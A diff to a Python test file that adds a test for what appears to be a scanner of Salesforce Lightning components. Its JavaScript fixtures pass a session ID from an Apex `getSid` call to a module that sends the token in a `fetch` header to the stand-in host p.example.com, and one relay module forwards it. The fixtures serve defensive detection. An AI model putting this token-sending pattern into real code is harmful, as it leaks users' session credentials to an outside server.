@@ -95,6 +95,22 @@ def test_a_resource_script_that_may_send_a_page_s_global_is_parsed_though_it_nam
     assert [u.sources for u in ir.url_uses] == [("client:global:token",)]
 
 
+def test_components_that_hand_values_to_modules_and_modules_that_may_send_them_are_parsed() -> None:
+    """A component passing what Apex returns to `c/api`'s functions, the module exporting them
+    (it may send), and one that passes on what it is given to another module are parsed; a
+    component that only logs, with its `export default class`, still is not."""
+    caller = "import getSid from '@salesforce/apex/Ctl.getSid';\nimport { send } from 'c/api';\n" \
+             "export default class C { async go() { send(await getSid()); } }\n"
+    module = "export function send(token) { return fetch('https://p.example.com', {headers: {A: token}}); }\n"
+    relay = "import { send } from 'c/api';\nexport const forward = (token) => { console.log('x'); send(token); };\n"
+    plain = "import { LightningElement } from 'lwc';\nexport default class P extends LightningElement {\n" \
+            "    connectedCallback() { console.log('ready'); }\n}\n"
+    for rel, code, quiet in (("lwc/caller/caller.js", caller, False), ("lwc/api/api.js", module, False),
+                             ("lwc/relay/relay.js", relay, False), ("lwc/plain/plain.js", plain, True),
+                             ("lwc/api/helpers.js", module, True)):  # not the module `c/api` names
+        assert is_quiet_script_or_metadata(_scan_job(rel, FileKind.JAVASCRIPT, code), code) is quiet, rel
+
+
 def test_quiet_metadata_keeps_its_name_and_type_and_credentials_are_always_read() -> None:
     field = _scan_job("objects/Acct__c/fields/Tier__c.field-meta.xml", FileKind.METADATA,
                       "<CustomField><fullName>Tier__c</fullName></CustomField>", "CustomField")
